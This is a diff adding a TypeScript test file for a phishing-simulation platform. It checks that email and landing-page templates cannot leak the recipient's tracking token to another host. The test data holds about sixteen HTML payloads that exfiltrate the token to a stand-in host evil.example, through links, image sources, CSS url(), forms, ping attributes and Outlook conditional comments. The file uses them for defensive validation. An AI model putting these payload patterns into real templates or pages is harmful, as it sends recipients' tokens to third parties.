@@ -1,0 +1,120 @@
+import * as campaigns from '@vigil/contract/phishing-campaigns/endpoints.ts';
+import * as templates from '@vigil/contract/phishing-templates/endpoints.ts';
+import { sql } from 'kysely';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { deliveriesOf, hit, launch, makeTemplate, tokenOf, until } from '../../../test/make-campaign.ts';
+import { makeOrganization } from '../../../test/make-organization.ts';
+import { startSink, type Sink } from '../../../test/sink.ts';
+import { startServer, type TestServer } from '../../../test/start-server.ts';
+import { asSystem } from '../../db/database.ts';
+import { hasStrayLink, hasStrayLinks, withoutStrayInHtml, withoutStrayLinks } from './commands/take-out-stray-links.ts';
+
+describe('security 16: the link of a letter', () => {
+  test.each([
+    '<a href="https://evil.example/?u={{link}}">x</a>',
+    "<a href='//evil.example/{{ link }}'>x</a>",
+    '<a href="https://evil.example/?u=\n{{link}}">x</a>',
+    '<a title=">" href="https://evil.example/?u= {{link}}">x</a>',
+    '<a href=https://evil.example/?u={{ link }}>x</a>',
+    '<a href="{{link}}, {{link}}">x</a>',
+    '<img srcset="https://evil.example/?u={{link}} 2x">',
+    '<img src="https://evil.example/{{link}}.gif">',
+    '<div style="background:url(https://evil.example/?u={{link}})">x</div>',
+    '<style>p{background:url(https://evil.example/?u={{link}})}</style>',
+    '<form action="https://evil.example"><input name="u" value="{{link}}"><textarea name="v">{{link}}</textarea></form>',
+    '<p>https://evil.example/?u={{link}}</p>',
+    '<p>https://evil.example/?u=<b>{{link}}</b></p>',
+    '<!--[if mso]><v:rect href="https://evil.example/?u={{link}}"><![endif]-->',
+    '<a href="{{link}}" ping="https://evil.example/?u={{link}}">x</a>',
+    '<a {{link}}>x</a>',
+  ])('has no place in %s', (html) => {
+    expect(hasStrayLink(html)).toBe(true);
+    const filled = withoutStrayInHtml(html).replaceAll('{{link}}', 'TOKEN');
+    expect(filled).not.toMatch(/evil\.example[^<>"]*TOKEN|value="TOKEN|>TOKEN<\/textarea|<a TOKEN/i);
+  });
+
+  test.each([
+    '<a href="{{link}}">Open</a>',
+    '<a href={{ link }} title="Go: {{link}}">Open</a>',
+    '<a href="{{link}}?from=mail">{{link}}</a>',
+    '<p>Ссылка:{{link}} (<b>{{ link }}</b>)</p>',
+    '<!--[if mso]><v:roundrect href="{{link}}" style="x"><![endif]--><a href="{{link}}">x</a>',
+    '<p>Nothing here</p><br><hr>',
+  ])('stays in %s', (html) => {
+    expect(hasStrayLink(html)).toBe(false);
+    expect(withoutStrayInHtml(html)).toBe(html.replaceAll('{{ link }}', '{{link}}'));
+  });
+
+  test('is astray in plain text within another address alone', () => {
+    const letter = { sender_name: '', sender_address: '', subject: '', html: '', attachments: [] };
+    const keptOf = (text: string) => withoutStrayLinks({ ...letter, text }).text;
+    for (const text of ['Откройте: {{link}}', '{{link}}', '<{{ link }}>', 'Go:{{link}}\n({{link}})']) {
+      expect(hasStrayLinks({ ...letter, text })).toBe(false);
+      expect(keptOf(text)).toBe(text);
+    }
+    expect(keptOf('https://evil.example/?u={{ link }} {{link}}')).toBe('https://evil.example/?u= {{link}}');
+    expect(
+      hasStrayLinks({ ...letter, text: 'x', attachments: [{ name: 'a', type: 'text/html', content: '<i x="{{link}}">' }] }),
+    ).toBe(true);
+  });
+});
+
+let server: TestServer;
+let sink: Sink;
+
+beforeAll(async () => {
+  sink = await startSink();
+  server = await startServer({ SMTP_HOST: '127.0.0.1', SMTP_PORT: String(sink.port), SMTP_SECURITY: 'none' });
+});
+afterAll(async () => {
+  await server.stop();
+  await sink.close();
+});
+
+test('no letter and no page of the library puts its link astray', async () => {
+  const { emails, pages } = await asSystem(server.services.database, async (tx) => ({
+    emails: await tx.selectFrom('phishing_emails').selectAll().where('organization_id', 'is', null).execute(),
+    pages: await tx.selectFrom('phishing_pages').selectAll().where('organization_id', 'is', null).execute(),
+  }));
+  for (const email of emails) expect(hasStrayLinks(email as never), email.name).toBe(false);
+  for (const page of pages) expect(hasStrayLink(page.html), page.name).toBe(false);
+});
+
+test('security 16: a template that would tell a stranger the token is refused, and one kept from before tells nobody', async () => {
+  const home = await makeOrganization(server);
+  const { token } = home.people.operator;
+  const id = await makeTemplate(server, home);
+  const { body } = await server.call(templates.getTemplate, { params: { id }, token });
+  const trap = '<a href="https://evil.example/?u={{link}}">x</a><a href="{{link}}">y</a>';
+  const email = await server.call(templates.changeEmail, { params: { id: body.emails[0]!.id }, token, body: { html: trap } });
+  const page = await server.call(templates.changePage, { params: { id: body.pages[0]!.id }, token, body: { html: trap } });
+  for (const { status, body: refused } of [email, page]) {
+    expect(status).toBe(422);
+    expect((refused as unknown as { code: string }).code).toBe('template.stray_link');
+  }
+  const start_date = new Date(Date.now() + 3_600_000).toISOString();
+  const campaign = await launch(server, home, { templates: [id], start_date });
+  await asSystem(server.services.database, async (tx) => {
+    await tx
+      .updateTable('campaign_templates')
+      .set({ html: trap, page_html: trap, text: trap })
+      .where('campaign_id', '=', campaign.id)
+      .execute();
+    await sql`update phishing_campaigns set status = 'active', start_date = now() where id = ${campaign.id}`.execute(tx);
+    await sql`update deliveries set send_at = now() where campaign_id = ${campaign.id}`.execute(tx);
+  });
+  const [first] = await until(
+    () => deliveriesOf(server, campaign.id),
+    (rows) => rows.every(({ state }) => state === 'sent'),
+  );
+  const its = tokenOf(server, first!.id);
+  const raw = sink.letters.find(({ messageId }) => messageId.includes(first!.id))!.raw;
+  const letter = Array.from(raw.matchAll(/^(?:[A-Za-z0-9+/]{4,}={0,2}\r\n)+/gm), ([part]) =>
+    Buffer.from(part, 'base64').toString(),
+  ).join('\n');
+  expect(letter).toContain(`href="http://phish.test/l/${its}">y`);
+  const landing = (await hit(server, `/l/${its}`)).body;
+  for (const shown of [letter, landing]) expect(shown).not.toMatch(new RegExp(`evil\\.example[^<>"\\s]*${its}`));
+  expect(landing).toContain(`href="http://phish.test/l/${its}">y`);
+  expect((await server.call(campaigns.getCampaign, { params: { id: campaign.id }, token })).status).toBe(200);
+});
